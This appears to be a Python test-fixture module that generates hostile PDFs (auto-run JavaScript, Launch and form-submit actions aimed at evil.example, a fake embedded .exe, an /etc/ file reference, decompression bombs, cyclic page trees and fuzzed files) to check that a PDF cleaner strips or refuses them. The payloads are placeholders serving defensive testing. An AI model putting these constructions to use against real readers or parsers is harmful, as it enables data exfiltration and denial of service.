"""PDFs that want more than to be read, made for tests: each with its name."""

import io
import random
import zlib
from collections.abc import Iterator
from datetime import datetime
from functools import cache

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from marketplace.pdf import Paper

SECRET = "DO-NOT-KEEP"


@cache
def paper(text: str = "Giấy chứng nhận", pages: int = 1) -> bytes:
    """A harmless one."""
    made = Paper("Thử", "chân trang", datetime(2026, 1, 1))
    made.heading(text)
    for _ in range(pages - 1):
        made.pdf.add_page()
        made.text(text)
    return made.output()


def names(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})


def script() -> DictionaryObject:
    return names(S=NameObject("/JavaScript"), JS=TextStringObject(f"app.alert('{SECRET}')"))


def launch() -> DictionaryObject:
    return names(S=NameObject("/Launch"), F=TextStringObject(SECRET))


def uri() -> DictionaryObject:
    return names(S=NameObject("/URI"), URI=TextStringObject(f"https://evil.example/{SECRET}"))


def goto_remote() -> DictionaryObject:
    return names(S=NameObject("/GoToR"), F=TextStringObject(SECRET), D=ArrayObject())


def submit() -> DictionaryObject:
    return names(S=NameObject("/SubmitForm"), F=TextStringObject(f"https://evil.example/{SECRET}"))


def import_data() -> DictionaryObject:
    return names(S=NameObject("/ImportData"), F=TextStringObject(SECRET))


ACTIONS = (script, launch, uri, goto_remote, submit, import_data)


def _writer() -> PdfWriter:
    return PdfWriter(clone_from=io.BytesIO(paper()))


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def opens_with(action) -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = action()
    return _bytes(writer)


def page_acts(action) -> bytes:
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = names(O=action())
    return _bytes(writer)


def link_acts(action) -> bytes:
    writer = _writer()
    link = names(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), A=action())
    link[NameObject("/Rect")] = writer.pages[0].mediabox
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _bytes(writer)


def outline_acts(action) -> bytes:
    writer = _writer()
    item = names(Title=TextStringObject(SECRET), A=action())
    writer.root_object[NameObject("/Outlines")] = names(First=writer._add_object(item))
    return _bytes(writer)


def named_script(action) -> bytes:
    writer = _writer()
    tree = names(Names=ArrayObject([TextStringObject("x"), action()]))
    writer.root_object[NameObject("/Names")] = names(JavaScript=tree)
    return _bytes(writer)


def form_field(action) -> bytes:
    writer = _writer()
    field = names(FT=NameObject("/Tx"), T=TextStringObject(SECRET), AA=names(K=action()))
    writer.root_object[NameObject("/AcroForm")] = names(Fields=ArrayObject([writer._add_object(field)]))
    return _bytes(writer)


def form_in_a_picture(action) -> bytes:
    """An action below the resources of a page, where no action belongs."""
    writer = _writer()
    stream = DecodedStreamObject()
    stream.set_data(b"q Q")
    stream.update(names(Type=NameObject("/XObject"), Subtype=NameObject("/Form"), A=action(), AA=action()))
    writer.pages[0]["/Resources"][NameObject("/XObject")] = names(A=writer._add_object(stream))
    return _bytes(writer)


PLACES = (opens_with, page_acts, link_acts, outline_acts, named_script, form_field, form_in_a_picture)


def attached() -> bytes:
    writer = _writer()
    writer.add_attachment(f"{SECRET}.exe", b"MZ" + SECRET.encode())
    return _bytes(writer)


def outside_stream() -> bytes:
    """A picture whose pixels are in a file of whoever opens it."""
    writer = _writer()
    stream = DecodedStreamObject()
    stream.set_data(b"")
    stream.update(names(Subtype=NameObject("/Image"), F=TextStringObject(f"/etc/{SECRET}")))
    writer.pages[0]["/Resources"][NameObject("/XObject")] = names(Font=writer._add_object(stream))
    return _bytes(writer)


def told_about() -> bytes:
    writer = _writer()
    writer.add_metadata({"/Author": SECRET})
    return _bytes(writer)


def harmful() -> Iterator[tuple[str, bytes]]:
    """Can be opened; nothing that acts may be left of them."""
    for place in PLACES:
        for action in ACTIONS:
            yield f"{place.__name__} {action.__name__}", place(action)
    for make in (attached, outside_stream, told_about):
        yield make.__name__, make()


def locked(password: str) -> bytes:
    writer = _writer()
    writer.encrypt(password, "owner", algorithm="RC4-128")
    return _bytes(writer)


def bomb_of_drawing() -> bytes:
    """A hundred kilobytes that become a hundred megabytes."""
    return _with_content(zlib.compress(b"0 0 m " * (17 * 2**20), 9))


def bomb_of_bombs() -> bytes:
    """Deflated twice: a few kilobytes that want more memory than the cleaner has."""
    once = zlib.compress(b"\0" * 2**30, 9)
    return _with_content(zlib.compress(once, 9), "[/FlateDecode /FlateDecode]")


def _with_content(stream: bytes, filters: str = "/FlateDecode") -> bytes:
    head = f"4 0 obj <</Length {len(stream)} /Filter {filters}>> stream\n".encode()
    return _raw(b"", head + stream + b"\nendstream endobj\n", b"/Contents 4 0 R")


def huge_picture() -> bytes:
    stream = zlib.compress(b"\0" * 2**20)
    head = (
        f"4 0 obj <</Subtype /Image /Width 200000 /Height 200000 /ColorSpace /DeviceGray /BitsPerComponent 8"
        f" /Length {len(stream)} /Filter /FlateDecode>> stream\n"
    ).encode()
    return _raw(b"", head + stream + b"\nendstream endobj\n", b"/Resources <</XObject <</A 4 0 R>>>>")


def _raw(catalog: bytes, more: bytes, of_page: bytes, box: bytes = b"[0 0 300 300]") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R " + catalog + b">> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n"
        b"3 0 obj <</Type /Page /Parent 2 0 R /MediaBox " + box + b" " + of_page + b">> endobj\n" + more +
        b"trailer <</Root 1 0 R>>\n%%EOF\n"
    )  # fmt: skip


def circle_of_pages() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [2 0 R 2 0 R] /Count 2>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
    )


def deep_arrays() -> bytes:
    return _raw(b"", b"", b"/Contents " + b"[" * 100_000 + b"]" * 100_000)


def refused() -> Iterator[tuple[str, str, bytes]]:
    """Name, a word of the sentence, file."""
    yield "password", "password", locked("secret")
    yield "password for changes alone", "password", locked("")
    yield "too many pages", "pages", paper(pages=61)
    yield "a page of a kilometre", "metres", _raw(b"", b"", b"", b"[0 0 3000000 300]")
    yield "a page without size", "metres", _raw(b"", b"", b"", b"[0 0 0 300]")
    yield "bomb of drawing", "memory", bomb_of_drawing()
    yield "bomb of bombs", "memory", bomb_of_bombs()
    yield "huge picture", "memory", huge_picture()
    yield "circle of pages", "damaged", circle_of_pages()
    yield "deep arrays", "damaged", deep_arrays()
    yield "only the sign", "damaged", b"%PDF-1.7\n"
    yield "sign and zeroes", "damaged", b"%PDF-1.7\n" + bytes(100_000)


def mutilated(count: int) -> Iterator[bytes]:
    """Good and bad files with bytes changed, cut out and doubled, always the same ones."""
    chance = random.Random("papers")
    whole = [content for _, content in harmful()] + [paper(pages=3)]
    for _ in range(count):
        content = bytearray(chance.choice(whole))
        for _ in range(chance.randint(1, 30)):
            place = chance.randrange(len(content))
            match chance.randint(0, 3):
                case 0:
                    content[place] = chance.randrange(256)
                case 1:
                    del content[place : place + chance.randint(1, 200)]
                case 2:
                    content[place:place] = content[place : place + chance.randint(1, 200)]
                case 3:
                    content[place : place + 1] = chance.choice(
                        (b"<<", b">>", b"/AA", b"obj", b"0 R", b"stream")
                    )
        yield bytes(content) or b"%PDF-"
